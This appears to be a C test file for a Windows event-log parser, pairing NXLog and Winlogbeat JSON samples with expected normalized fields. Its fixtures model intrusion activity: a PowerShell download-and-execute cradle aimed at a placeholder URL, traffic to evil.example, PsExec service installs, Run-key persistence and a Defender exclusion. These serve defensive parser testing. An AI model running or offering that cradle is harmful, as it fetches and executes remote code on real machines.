/*
 * Tests of the Windows event parser (src/parsers/winevent.c): Security,
 * System, Sysmon and PowerShell events as NXLog and Winlogbeat write
 * them, through the shared table driver (parser_table.h).
 */
#include "parser_table.h"

/*
 * Lines in both schemes.  NX() is an NXLog im_msvistalog line with its
 * usual metadata; WB() a Winlogbeat 8 line with the event data under
 * winlog.event_data.  Both carry the time 2026-03-10 14:02:11 UTC.
 */
#define NX(id, ch, host, data) \
	"{\"EventTime\":\"2026-03-10 14:02:11\",\"Hostname\":\"" host "\"," \
	"\"Keywords\":-9214364837600034816,\"EventType\":\"AUDIT_SUCCESS\"," \
	"\"SeverityValue\":2,\"Severity\":\"INFO\",\"EventID\":" id "," \
	"\"SourceName\":\"Microsoft-Windows-Security-Auditing\"," \
	"\"RecordNumber\":1894121,\"Channel\":\"" ch "\"," \
	"\"Message\":\"An account was successfully logged on.\\r\\n\\r\\n" \
	"Subject:\\r\\n\\tSecurity ID:\\t\\tS-1-0-0\\r\\n\"," data "," \
	"\"EventReceivedTime\":\"2026-03-10 14:02:13\"," \
	"\"SourceModuleName\":\"eventlog\"," \
	"\"SourceModuleType\":\"im_msvistalog\",\"host\":\"wec.corp.local\"," \
	"\"tags\":[\"a\",\"b\"]}"
#define WB(id, ch, host, data) \
	"{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"agent\":{\"name\":" \
	"\"x\",\"type\":\"winlogbeat\",\"version\":\"8.12.2\"},\"ecs\":" \
	"{\"version\":\"8.0.0\"},\"event\":{\"action\":\"logged-in\"," \
	"\"code\":\"9\",\"kind\":\"event\"},\"host\":{\"name\":\"ignored\"}," \
	"\"message\":\"An account was successfully logged on.\\r\\n\"," \
	"\"winlog\":{\"api\":\"wineventlog\",\"channel\":\"" ch "\"," \
	"\"computer_name\":\"" host "\",\"event_data\":{" data "}," \
	"\"event_id\":" id ",\"keywords\":[\"Audit Success\"],\"process\":" \
	"{\"pid\":668,\"thread\":{\"id\":6500}},\"provider_name\":" \
	"\"Microsoft-Windows-Security-Auditing\",\"record_id\":12345," \
	"\"task\":\"Logon\"}}"

#define T_NX	1773151331000LL		/* 2026-03-10T14:02:11Z */
#define T_WB	1773151331123LL
#define T_UTC	1773151331456LL		/* Sysmon UtcTime */

#define SYSMON	"Microsoft-Windows-Sysmon/Operational"
#define UTCTIME	"\"UtcTime\":\"2026-03-10 14:02:11.456\""

#define DEFENDER "Microsoft-Windows-Windows Defender/Operational"
#define DDEF(act, code, desc) \
	"\"Product Name\":\"Microsoft Defender Antivirus\",\"Detection ID\":" \
	"\"{1B8A6A1E-0000-4A1B-9B4E-7F3D2C1E0A11}\",\"Threat ID\":\"2147735505\"," \
	"\"Threat Name\":\"Trojan:Win32/Wacatac.B!ml\",\"Severity ID\":\"5\"," \
	"\"Severity Name\":\"Severe\",\"Category ID\":\"8\",\"Category Name\":" \
	"\"Trojan\",\"Process Name\":\"C:\\\\Windows\\\\explorer.exe\"," \
	"\"Detection User\":\"CORP\\\\alice\",\"Path\":\"file:_C:\\\\Users\\\\" \
	"alice\\\\Downloads\\\\\xe8\xa6\x8b\xe7\xa9\x8d.xlsxs.exe; " \
	"file:_C:\\\\Temp\\\\b.exe\",\"Action Name\":\"" act "\",\"Error Code\":" \
	"\"" code "\",\"Error Description\":\"" desc "\""
#define D1116	DDEF("Not Applicable", "0x00000000", \
	"The operation completed successfully. ")
#define D1117	DDEF("Quarantine", "0x80508023", "The program could not " \
	"find the malware and other potentially unwanted software on this " \
	"device. ")
#define EDEF	"winlog.channel=" DEFENDER "|host.name=WS-ALICE.corp.local|" \
	"user.name=alice|threat.name=Trojan:Win32/Wacatac.B!ml|" \
	"threat.category=Trojan|process.executable=C:\\Windows\\explorer.exe|" \
	"file.name=C:\\Users\\alice\\Downloads\\\xe8\xa6\x8b\xe7\xa9\x8d.xlsxs.exe"

#define SEC_DC	"winlog.channel=Security|host.name=DC01.corp.local"
#define SYS_WS	"winlog.channel=" SYSMON "|host.name=WS-ALICE.corp.local"

#define D4624 \
	"\"SubjectUserSid\":\"S-1-0-0\",\"SubjectUserName\":\"-\"," \
	"\"TargetUserName\":\"alice\",\"TargetDomainName\":\"CORP\"," \
	"\"LogonType\":\"3\",\"AuthenticationPackageName\":\"NTLM\"," \
	"\"WorkstationName\":\"WS-BOB\",\"ProcessName\":\"-\"," \
	"\"IpAddress\":\"10.20.1.15\",\"IpPort\":\"50132\""
#define E4624	SEC_DC "|user.name=alice|" \
	"winlog.event_data.TargetUserName=alice|winlog.logon.type=3|" \
	"winlog.event_data.AuthenticationPackageName=NTLM|" \
	"source.address=WS-BOB|source.ip=10.20.1.15|source.port=50132"

#define D4625 \
	"\"TargetUserName\":\"bob\",\"Status\":\"0xc000006d\"," \
	"\"SubStatus\":\"0xc000006a\",\"LogonType\":\"3\"," \
	"\"IpAddress\":\"-\",\"IpPort\":\"0\",\"WorkstationName\":\"WS-BOB\""
#define E4625	SEC_DC "|user.name=bob|winlog.event_data.TargetUserName=bob|" \
	"winlog.event_data.Status=0xc000006a|winlog.logon.type=3|" \
	"source.address=WS-BOB"

#define D4648 \
	"\"SubjectUserName\":\"bob\",\"SubjectDomainName\":\"CORP\"," \
	"\"TargetUserName\":\"adm-alice\",\"TargetServerName\":\"FS01\"," \
	"\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"," \
	"\"IpAddress\":\"10.20.0.20\",\"IpPort\":\"445\""
#define E4648	SEC_DC "|user.name=bob|winlog.event_data.SubjectUserName=bob|" \
	"winlog.event_data.TargetUserName=adm-alice|destination.domain=FS01|" \
	"destination.ip=10.20.0.20|destination.port=445|" \
	"process.executable=C:\\Windows\\System32\\cmd.exe"

#define D4662 \
	"\"SubjectUserName\":\"pgustavo\",\"SubjectDomainName\":\"CORP\"," \
	"\"ObjectServer\":\"DS\",\"ObjectType\":\"%{19195a5b-6da0-11d0-afd3-" \
	"00c04fd930c9}\",\"ObjectName\":\"%{d613d8a5-418b-4b7a-83b8-" \
	"ae1511c502c4}\",\"AccessMask\":\"0x100\",\"Properties\":\"%%7688" \
	"\\r\\n\\t\\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}\\r\\n\\t" \
	"{19195a5b-6da0-11d0-afd3-00c04fd930c9}\\r\\n\""
#define E4662	SEC_DC "|user.name=pgustavo|" \
	"winlog.event_data.SubjectUserName=pgustavo|service.name=DS|" \
	"file.name=%{d613d8a5-418b-4b7a-83b8-ae1511c502c4}|" \
	"winlog.event_data.AccessMask=0x100|" \
	"winlog.event_data.Properties=%%7688\r\n\t\t{1131f6aa-9c07-11d1-" \
	"f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n"

#define D4672 \
	"\"SubjectUserName\":\"adm-alice\",\"PrivilegeList\":" \
	"\"SeDebugPrivilege\\r\\n\\t\\t\\tSeBackupPrivilege\""
#define E4672	SEC_DC "|user.name=adm-alice|" \
	"winlog.event_data.SubjectUserName=adm-alice|" \
	"winlog.event_data.Properties=SeDebugPrivilege\r\n\t\t\t" \
	"SeBackupPrivilege"

#define D4688 \
	"\"SubjectUserName\":\"alice\",\"NewProcessName\":" \
	"\"C:\\\\Windows\\\\System32\\\\whoami.exe\",\"CommandLine\":" \
	"\"\\\"C:\\\\windows\\\\system32\\\\whoami.exe\\\" /user\"," \
	"\"TargetUserName\":\"-\",\"ParentProcessName\":" \
	"\"C:\\\\Windows\\\\explorer.exe\""
#define E4688	SEC_DC "|user.name=alice|" \
	"winlog.event_data.SubjectUserName=alice|" \
	"process.executable=C:\\Windows\\System32\\whoami.exe|" \
	"process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user|" \
	"process.parent.executable=C:\\Windows\\explorer.exe"

#define D4697 \
	"\"SubjectUserName\":\"adm-alice\",\"ServiceName\":\"PSEXESVC\"," \
	"\"ServiceFileName\":\"%SystemRoot%\\\\PSEXESVC.exe\"," \
	"\"ServiceAccount\":\"LocalSystem\""
#define E4697	SEC_DC "|user.name=adm-alice|" \
	"winlog.event_data.SubjectUserName=adm-alice|service.name=PSEXESVC|" \
	"service.image=%SystemRoot%\\PSEXESVC.exe"

#define D4768 \
	"\"TargetUserName\":\"alice\",\"TargetDomainName\":\"CORP\"," \
	"\"ServiceName\":\"krbtgt\",\"Status\":\"0x0\"," \
	"\"TicketEncryptionType\":\"0x12\",\"IpAddress\":" \
	"\"::ffff:10.20.1.15\",\"IpPort\":\"50387\""
#define E4768	SEC_DC "|user.name=alice|" \
	"winlog.event_data.TargetUserName=alice|service.name=krbtgt|" \
	"winlog.event_data.Status=0x0|" \
	"winlog.event_data.TicketEncryptionType=0x12|source.ip=10.20.1.15|" \
	"source.port=50387"

#define D4769 \
	"\"TargetUserName\":\"alice@CORP.LOCAL\",\"ServiceName\":\"svc-sql\"," \
	"\"TicketEncryptionType\":\"0x17\",\"IpAddress\":\"::ffff:10.20.1.15\"," \
	"\"Status\":\"0x0\""
#define E4769	SEC_DC "|user.name=alice|" \
	"winlog.event_data.TargetUserName=alice@CORP.LOCAL|" \
	"service.name=svc-sql|winlog.event_data.TicketEncryptionType=0x17|" \
	"source.ip=10.20.1.15|winlog.event_data.Status=0x0"

#define D4771 \
	"\"TargetUserName\":\"carol\",\"ServiceName\":\"krbtgt/CORP\"," \
	"\"Status\":\"0x18\",\"PreAuthType\":\"2\",\"IpAddress\":" \
	"\"::ffff:10.20.1.16\",\"IpPort\":\"61000\""
#define E4771	SEC_DC "|user.name=carol|" \
	"winlog.event_data.TargetUserName=carol|service.name=krbtgt/CORP|" \
	"winlog.event_data.Status=0x18|source.ip=10.20.1.16|source.port=61000"

#define D4776 \
	"\"PackageName\":\"MICROSOFT_AUTHENTICATION_PACKAGE_V1_0\"," \
	"\"TargetUserName\":\"dave\",\"Workstation\":\"WS-DAVE\"," \
	"\"Status\":\"0xc000006a\""
#define E4776	SEC_DC "|user.name=dave|" \
	"winlog.event_data.TargetUserName=dave|source.address=WS-DAVE|" \
	"winlog.event_data.Status=0xc000006a|" \
	"winlog.event_data.AuthenticationPackageName=" \
	"MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"

#define D5140 \
	"\"SubjectUserName\":\"adm-alice\",\"ObjectType\":\"File\"," \
	"\"IpAddress\":\"10.20.1.15\",\"IpPort\":\"50162\",\"ShareName\":" \
	"\"\\\\\\\\*\\\\ADMIN$\",\"ShareLocalPath\":\"\\\\??\\\\C:\\\\Windows\"," \
	"\"AccessMask\":\"0x1\""
#define E5140	SEC_DC "|user.name=adm-alice|" \
	"winlog.event_data.SubjectUserName=adm-alice|source.ip=10.20.1.15|" \
	"source.port=50162|file.share=\\\\*\\ADMIN$|" \
	"winlog.event_data.AccessMask=0x1"

#define D5145 \
	"\"SubjectUserName\":\"adm-alice\",\"IpAddress\":\"10.20.1.15\"," \
	"\"ShareName\":\"\\\\\\\\*\\\\IPC$\",\"RelativeTargetName\":" \
	"\"PSEXESVC-WS1-1234-stdin\",\"AccessMask\":\"0x12019f\""
#define E5145	SEC_DC "|user.name=adm-alice|" \
	"winlog.event_data.SubjectUserName=adm-alice|source.ip=10.20.1.15|" \
	"file.share=\\\\*\\IPC$|file.relative_target=PSEXESVC-WS1-1234-stdin|" \
	"winlog.event_data.AccessMask=0x12019f"

#define D7045 \
	"\"ServiceName\":\"PSEXESVC\",\"ImagePath\":" \
	"\"%SystemRoot%\\\\PSEXESVC.exe\",\"ServiceType\":" \
	"\"user mode service\",\"StartType\":\"demand start\"," \
	"\"AccountName\":\"LocalSystem\""
#define E7045	"winlog.channel=System|host.name=WS-BOB.corp.local|" \
	"user.name=LocalSystem|service.name=PSEXESVC|" \
	"service.image=%SystemRoot%\\PSEXESVC.exe"

#define DS1 UTCTIME "," \
	"\"Image\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\"," \
	"\"OriginalFileName\":\"whoami.exe\",\"CommandLine\":" \
	"\"\\\"C:\\\\windows\\\\system32\\\\whoami.exe\\\" /user\"," \
	"\"User\":\"CORP\\\\alice\",\"Hashes\":\"SHA1=8F1F,MD5=2EEE\"," \
	"\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"," \
	"\"ParentCommandLine\":\"cmd.exe /c whoami /user\"," \
	"\"RuleName\":\"-\""
#define ES1	SYS_WS "|user.name=alice|" \
	"process.executable=C:\\Windows\\System32\\whoami.exe|" \
	"file.name=whoami.exe|" \
	"process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user|" \
	"process.hash=SHA1=8F1F,MD5=2EEE|" \
	"process.parent.executable=C:\\Windows\\System32\\cmd.exe|" \
	"process.parent.command_line=cmd.exe /c whoami /user"

#define DS3 UTCTIME "," \
	"\"Image\":\"C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application" \
	"\\\\chrome.exe\",\"User\":\"CORP\\\\alice\",\"Protocol\":\"tcp\"," \
	"\"Initiated\":\"true\",\"SourceIp\":\"10.20.1.15\"," \
	"\"SourceHostname\":\"WS-ALICE.corp.local\",\"SourcePort\":\"50385\"," \
	"\"DestinationIp\":\"203.0.113.7\",\"DestinationHostname\":" \
	"\"evil.example\",\"DestinationPort\":\"443\""
#define ES3	SYS_WS "|user.name=alice|" \
	"process.executable=C:\\Program Files\\Google\\Chrome\\Application" \
	"\\chrome.exe|" \
	"network.transport=tcp|source.ip=10.20.1.15|" \
	"source.address=WS-ALICE.corp.local|source.port=50385|" \
	"destination.ip=203.0.113.7|destination.domain=evil.example|" \
	"destination.port=443"

#define DS11 UTCTIME "," \
	"\"Image\":\"C:\\\\Windows\\\\Explorer.EXE\",\"TargetFilename\":" \
	"\"C:\\\\Users\\\\alice\\\\Downloads\\\\invoice.pdf.exe\""
#define ES11	SYS_WS "|process.executable=C:\\Windows\\Explorer.EXE|" \
	"file.name=C:\\Users\\alice\\Downloads\\invoice.pdf.exe"

#define DS13 UTCTIME "," \
	"\"EventType\":\"SetValue\",\"Image\":\"C:\\\\Users\\\\Public\\\\" \
	"a.exe\",\"TargetObject\":\"HKU\\\\S-1-5-21-1\\\\Software\\\\" \
	"Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd\",\"Details\":" \
	"\"C:\\\\Users\\\\Public\\\\a.exe\""
#define ES13	SYS_WS "|process.executable=C:\\Users\\Public\\a.exe|" \
	"registry.path=HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\" \
	"CurrentVersion\\Run\\upd|" \
	"registry.data.strings=C:\\Users\\Public\\a.exe"

#define DS17 UTCTIME "," \
	"\"PipeName\":\"\\\\PSEXESVC-WS1-1234-stdin\",\"Image\":" \
	"\"C:\\\\Windows\\\\PSEXESVC.exe\""
#define ES17	SYS_WS "|file.pipe=\\PSEXESVC-WS1-1234-stdin|" \
	"process.executable=C:\\Windows\\PSEXESVC.exe"

#define DS22 UTCTIME "," \
	"\"QueryName\":\"evil.example\",\"QueryStatus\":\"9003\"," \
	"\"QueryResults\":\"-\",\"Image\":\"C:\\\\x.exe\"," \
	"\"User\":\"CORP\\\\alice\""
#define ES22	SYS_WS "|user.name=alice|dns.question.name=evil.example|" \
	"dns.response_code=NXDOMAIN|process.executable=C:\\x.exe"

/*
 * An event: its id, time and source, and its other fields.  The parser
 * leaves ev->format to the pipeline.
 */
#define WIN(l, id, t, src, w) \
	{ .format = "windows", .line = l, .result = PARSE_OK, .time_ms = t, \
	  .source = src, .want = "winlog.event_id=" #id "|" w, \
	  .flags = PT_NOFORMAT }
#define NO(l, r)	{ .format = "windows", .line = l, .result = r }
/* Behind a syslog header (NXLog forwarding over syslog). */
#define SYS(l, id, t, w) \
	{ .format = "windows", .line = l, .result = PARSE_OK, .time_ms = t, \
	  .want = "winlog.event_id=" #id "|" w, \
	  .flags = PT_SYSLOG | PT_NOFORMAT }

static const struct pt_case cases[] = {
	/* Security, both schemes */
	WIN(NX("4624", "Security", "DC01.corp.local", D4624),
	    4624, T_NX, SRC_AD, E4624),
	WIN(WB("4624", "Security", "DC01.corp.local", D4624),
	    4624, T_WB, SRC_AD, E4624),
	WIN(NX("4625", "Security", "DC01.corp.local", D4625),
	    4625, T_NX, SRC_AD, E4625),
	WIN(WB("\"4625\"", "Security", "DC01.corp.local", D4625),
	    4625, T_WB, SRC_AD, E4625),
	WIN(NX("4648", "Security", "DC01.corp.local", D4648),
	    4648, T_NX, SRC_AD, E4648),
	WIN(WB("4648", "Security", "DC01.corp.local", D4648),
	    4648, T_WB, SRC_AD, E4648),
	WIN(NX("4662", "Security", "DC01.corp.local", D4662),
	    4662, T_NX, SRC_AD, E4662),
	WIN(WB("\"4662\"", "Security", "DC01.corp.local", D4662),
	    4662, T_WB, SRC_AD, E4662),
	WIN(NX("4672", "Security", "DC01.corp.local", D4672),
	    4672, T_NX, SRC_AD, E4672),
	WIN(WB("4672", "Security", "DC01.corp.local", D4672),
	    4672, T_WB, SRC_AD, E4672),
	WIN(NX("4688", "Security", "DC01.corp.local", D4688),
	    4688, T_NX, SRC_AD, E4688),
	WIN(WB("4688", "Security", "DC01.corp.local", D4688),
	    4688, T_WB, SRC_AD, E4688),
	WIN(NX("4697", "Security", "DC01.corp.local", D4697),
	    4697, T_NX, SRC_AD, E4697),
	WIN(WB("4697", "Security", "DC01.corp.local", D4697),
	    4697, T_WB, SRC_AD, E4697),
	WIN(NX("4768", "Security", "DC01.corp.local", D4768),
	    4768, T_NX, SRC_AD, E4768),
	WIN(WB("4768", "Security", "DC01.corp.local", D4768),
	    4768, T_WB, SRC_AD, E4768),
	WIN(NX("4769", "Security", "DC01.corp.local", D4769),
	    4769, T_NX, SRC_AD, E4769),
	WIN(WB("4769", "Security", "DC01.corp.local", D4769),
	    4769, T_WB, SRC_AD, E4769),
	WIN(NX("4771", "Security", "DC01.corp.local", D4771),
	    4771, T_NX, SRC_AD, E4771),
	WIN(WB("4771", "Security", "DC01.corp.local", D4771),
	    4771, T_WB, SRC_AD, E4771),
	WIN(NX("4776", "Security", "DC01.corp.local", D4776),
	    4776, T_NX, SRC_AD, E4776),
	WIN(WB("4776", "Security", "DC01.corp.local", D4776),
	    4776, T_WB, SRC_AD, E4776),
	WIN(NX("5140", "Security", "DC01.corp.local", D5140),
	    5140, T_NX, SRC_AD, E5140),
	WIN(WB("5140", "Security", "DC01.corp.local", D5140),
	    5140, T_WB, SRC_AD, E5140),
	WIN(NX("5145", "Security", "DC01.corp.local", D5145),
	    5145, T_NX, SRC_AD, E5145),
	WIN(WB("5145", "Security", "DC01.corp.local", D5145),
	    5145, T_WB, SRC_AD, E5145),
	/* System */
	WIN(NX("7045", "System", "WS-BOB.corp.local", D7045),
	    7045, T_NX, SRC_AD, E7045),
	WIN(WB("7045", "System", "WS-BOB.corp.local", D7045),
	    7045, T_WB, SRC_AD, E7045),
	/* Sysmon: the time is UtcTime's */
	WIN(NX("1", SYSMON, "WS-ALICE.corp.local", DS1), 1, T_UTC, SRC_ENDPOINT,
	    ES1),
	WIN(WB("1", SYSMON, "WS-ALICE.corp.local", DS1), 1, T_UTC, SRC_ENDPOINT,
	    ES1),
	WIN(NX("3", SYSMON, "WS-ALICE.corp.local", DS3), 3, T_UTC, SRC_ENDPOINT,
	    ES3),
	WIN(WB("3", SYSMON, "WS-ALICE.corp.local", DS3), 3, T_UTC, SRC_ENDPOINT,
	    ES3),
	WIN(NX("11", SYSMON, "WS-ALICE.corp.local", DS11),
	    11, T_UTC, SRC_ENDPOINT, ES11),
	WIN(WB("11", SYSMON, "WS-ALICE.corp.local", DS11),
	    11, T_UTC, SRC_ENDPOINT, ES11),
	WIN(NX("13", SYSMON, "WS-ALICE.corp.local", DS13),
	    13, T_UTC, SRC_ENDPOINT, ES13),
	WIN(WB("13", SYSMON, "WS-ALICE.corp.local", DS13),
	    13, T_UTC, SRC_ENDPOINT, ES13),
	WIN(NX("17", SYSMON, "WS-ALICE.corp.local", DS17),
	    17, T_UTC, SRC_ENDPOINT, ES17),
	WIN(WB("18", SYSMON, "WS-ALICE.corp.local", DS17),
	    18, T_UTC, SRC_ENDPOINT, ES17),
	WIN(NX("22", SYSMON, "WS-ALICE.corp.local", DS22),
	    22, T_UTC, SRC_ENDPOINT, ES22),
	WIN(WB("22", SYSMON, "WS-ALICE.corp.local", DS22),
	    22, T_UTC, SRC_ENDPOINT, ES22),
	/* PowerShell script block; the account from NXLog's AccountName */
	WIN(NX("4104", "Microsoft-Windows-PowerShell/Operational",
	    "WS-ALICE.corp.local", "\"AccountName\":\"alice\",\"Domain\":"
	    "\"CORP\",\"ScriptBlockText\":\"IEX (New-Object Net.WebClient)."
	    "DownloadString('http://x/a')\",\"Path\":\"\""),
	    4104, T_NX, SRC_ENDPOINT,
	    "winlog.channel=Microsoft-Windows-PowerShell/Operational|"
	    "host.name=WS-ALICE.corp.local|user.name=alice|"
	    "process.command_line=IEX (New-Object Net.WebClient)."
	    "DownloadString('http://x/a')"),
	/* ... and from Winlogbeat's winlog.user */
	WIN("{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"winlog\":{"
	    "\"channel\":\"Microsoft-Windows-PowerShell/Operational\","
	    "\"event_id\":4103,"
	    "\"user\":{\"identifier\":\"S-1-5-21-1\",\"name\":\"bob\","
	    "\"domain\":\"CORP\"},\"event_data\":{\"Payload\":\"x\"}}}",
	    4103, T_WB, SRC_ENDPOINT,
	    "winlog.channel=Microsoft-Windows-PowerShell/Operational|"
	    "user.name=bob|process.command_line=x"),
	/* filtering platform: numeric protocol */
	WIN(NX("5156", "Security", "DC01.corp.local", "\"Application\":"
	    "\"\\\\device\\\\harddiskvolume2\\\\x.exe\",\"SourceAddress\":"
	    "\"10.20.0.10\",\"SourcePort\":\"50130\",\"DestAddress\":"
	    "\"168.63.129.16\",\"DestPort\":\"80\",\"Protocol\":\"6\""),
	    5156, T_NX, SRC_AD,
	    SEC_DC "|process.executable=\\device\\harddiskvolume2\\x.exe|"
	    "source.ip=10.20.0.10|source.port=50130|"
	    "destination.ip=168.63.129.16|destination.port=80|"
	    "network.transport=tcp"),
	/* Windows Defender: detection, remediation failed, protection off */
	WIN(NX("1116", DEFENDER, "WS-ALICE.corp.local", D1116), 1116, T_NX,
	    SRC_ENDPOINT, EDEF "|threat.severity=5|"
	    "event.action=Not Applicable|"
	    "winlog.event_data.Status=0x00000000|"
	    "event.reason=The operation completed successfully. "),
	WIN(WB("1116", DEFENDER, "WS-ALICE.corp.local", D1116), 1116, T_WB,
	    SRC_ENDPOINT, EDEF "|threat.severity=5|"
	    "event.action=Not Applicable|"
	    "winlog.event_data.Status=0x00000000|"
	    "event.reason=The operation completed successfully. "),
	WIN(NX("1117", DEFENDER, "WS-ALICE.corp.local", D1117), 1117, T_NX,
	    SRC_ENDPOINT, EDEF "|threat.severity=5|event.action=Quarantine|"
	    "winlog.event_data.Status=0x80508023|"
	    "event.reason=The program could not find the malware and other "
	    "potentially unwanted software on this device. "),
	WIN(NX("5001", DEFENDER, "WS-ALICE.corp.local", "\"Data\":\"\""),
	    5001, T_NX, SRC_ENDPOINT, "winlog.channel=" DEFENDER "|"
	    "host.name=WS-ALICE.corp.local"),
	WIN(NX("5007", DEFENDER, "WS-ALICE.corp.local", "\"Product Name\":"
	    "\"Microsoft Defender Antivirus\",\"Old Value\":\"\",\"New Value\":"
	    "\"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Exclusions\\\\"
	    "Paths\\\\C:\\\\Users\\\\Public = 0x0\""), 5007, T_NX, SRC_ENDPOINT,
	    "winlog.channel=" DEFENDER "|host.name=WS-ALICE.corp.local|"
	    "registry.data.strings=HKLM\\SOFTWARE\\Microsoft\\Windows Defender"
	    "\\Exclusions\\Paths\\C:\\Users\\Public = 0x0"),
	/* any other event: the common fields */
	WIN(NX("4634", "Security", "DC01.corp.local", "\"TargetUserName\":"
	    "\"alice\",\"LogonType\":\"3\""), 4634, T_NX, SRC_AD,
	    SEC_DC "|user.name=alice|winlog.event_data.TargetUserName=alice|"
	    "winlog.logon.type=3"),
	WIN(NX("9999", "Application", "APP1", "\"Data\":\"x\""),
	    9999, T_NX, SRC_AD, "winlog.channel=Application|host.name=APP1"),
	WIN(WB("5857", "Microsoft-Windows-WMI-Activity/Operational", "WS1",
	    "\"Data\":\"x\""), 5857, T_WB, SRC_ENDPOINT,
	    "winlog.channel=Microsoft-Windows-WMI-Activity/Operational|"
	    "host.name=WS1"),
	/* lower-case channel, as some collectors write it */
	WIN(NX("4688", "security", "DC01.corp.local", D4688),
	    4688, T_NX, SRC_AD,
	    "winlog.channel=security|host.name=DC01.corp.local|"
	    "user.name=alice|winlog.event_data.SubjectUserName=alice|"
	    "process.executable=C:\\Windows\\System32\\whoami.exe|"
	    "process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user|"
	    "process.parent.executable=C:\\Windows\\explorer.exe"),
	/* EventID as a string, numbers for strings, null, loopback kept */
	WIN("{\"EventID\":\"4624\",\"EventTime\":\"2026-03-10 14:02:11\","
	    "\"TargetUserName\":\"alice\",\"LogonType\":3,\"IpAddress\":\"::1\","
	    "\"IpPort\":null,\"WorkstationName\":null}", 4624, T_NX, SRC_AD,
	    "user.name=alice|winlog.event_data.TargetUserName=alice|"
	    "winlog.logon.type=3|source.ip=::1"),
	/* the event id from event.code alone; host.name stands in */
	WIN("{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"event\":{\"code\":"
	    "\"4624\"},\"host\":{\"name\":\"dc01\"},\"winlog\":{\"channel\":"
	    "\"Security\",\"event_data\":{\"TargetUserName\":\"alice\"}}}",
	    4624, T_WB, SRC_AD,
	    "winlog.channel=Security|host.name=dc01|user.name=alice|"
	    "winlog.event_data.TargetUserName=alice"),
	/* escaped unicode, surrogate pair, an invalid escape */
	WIN("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\","
	    "\"TargetUserName\":\"\\u00e9ric\\ud83d\\ude00\",\"WorkstationName\":"
	    "\"WS\\x\",\"Channel\":\"Security\"}", 4624, T_NX, SRC_AD,
	    "winlog.channel=Security|user.name=\xc3\xa9ric\xf0\x9f\x98\x80|"
	    "winlog.event_data.TargetUserName=\xc3\xa9ric\xf0\x9f\x98\x80"),
	/* nested objects and arrays around, skipped; BOM; CRLF */
	WIN("\xef\xbb\xbf{\"x\":{\"y\":[1,2,{\"z\":\"}]\\\"\"}],\"w\":{}},"
	    "\"EventID\":4776,\"a\":[[],[{}]],\"EventTime\":"
	    "\"2026-03-10 14:02:11\",\"TargetUserName\":\"dave\",\"e\":1.5e-3,"
	    "\"t\":true,\"f\":false,\"Workstation\":{\"nested\":\"no\"}}\r",
	    4776, T_NX, SRC_AD,
	    "user.name=dave|winlog.event_data.TargetUserName=dave"),
	/* NXLog local time put in UTC from Logstash's @timestamp */
	WIN("{\"EventReceivedTime\":\"2020-09-21 18:58:49\",\"EventID\":4634,"
	    "\"EventTime\":\"2020-09-21 18:58:47\",\"@timestamp\":"
	    "\"2020-09-21T22:58:49.789Z\",\"Hostname\":\"DC\"}",
	    4634, 1600729127000LL, SRC_AD, "host.name=DC"),
	/* ... not when the delay is not small */
	WIN("{\"EventReceivedTime\":\"2020-09-21 18:50:00\",\"EventID\":4634,"
	    "\"EventTime\":\"2020-09-21 18:58:47\",\"@timestamp\":"
	    "\"2020-09-21T22:58:49.789Z\"}", 4634, 1600714727000LL, SRC_AD,
	    ""),
	/* an EventTime with its own zone */
	WIN("{\"EventID\":4634,\"EventTime\":\"2026-03-10T15:02:11+01:00\"}",
	    4634, T_NX, SRC_AD, ""),
	/* only EventReceivedTime */
	WIN("{\"EventID\":4634,\"EventReceivedTime\":\"2026-03-10 14:02:11\"}",
	    4634, T_NX, SRC_AD, ""),
	/* not events */
	NO("", PARSE_SKIP),
	NO("   \t\r", PARSE_SKIP),
	NO("[1,2]", PARSE_ERROR),
	NO("\"string\"", PARSE_ERROR),
	NO("42", PARSE_ERROR),
	NO("null", PARSE_ERROR),
	NO("<13>Mar 10 14:02:11 host x", PARSE_ERROR),
	NO("{}", PARSE_ERROR),
	NO("{\"a\":1}", PARSE_ERROR),
	NO("{\"EventID\":4624}", PARSE_ERROR),			/* no time */
	NO("{\"EventID\":4624.5,\"EventTime\":\"2026-03-10 14:02:11\"}",
	    PARSE_ERROR),
	NO("{\"EventID\":70000,\"EventTime\":\"2026-03-10 14:02:11\"}",
	    PARSE_ERROR),
	NO("{\"EventID\":-1,\"EventTime\":\"2026-03-10 14:02:11\"}",
	    PARSE_ERROR),
	NO("{\"EventID\":\"\\u0034624\",\"EventTime\":\"2026-03-10 14:02:11\"}",
	    PARSE_ERROR),
	NO("{\"EventID\":4624,\"EventTime\":\"yesterday\"}", PARSE_ERROR),
	NO("{\"EventID\":4624 \"EventTime\":\"2026-03-10 14:02:11\"}",
	    PARSE_ERROR),
	NO("{\"EventID\" 4624,\"EventTime\":\"2026-03-10 14:02:11\"}",
	    PARSE_ERROR),
	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",}",
	    PARSE_ERROR),
	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\"} x",
	    PARSE_ERROR),
	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\"}}",
	    PARSE_ERROR),
	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",\"x\":[}",
	    PARSE_ERROR),
	NO("{\"EventID\":4624,\"EventTime\":\"2026-03-10 14:02:11\",\"x\":tru}",
	    PARSE_ERROR),
	/* malformed inside the objects detectd enters */
	NO("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\":"
	    "4624,\"event_data\":{\"a\" \"b\"}}}", PARSE_ERROR),
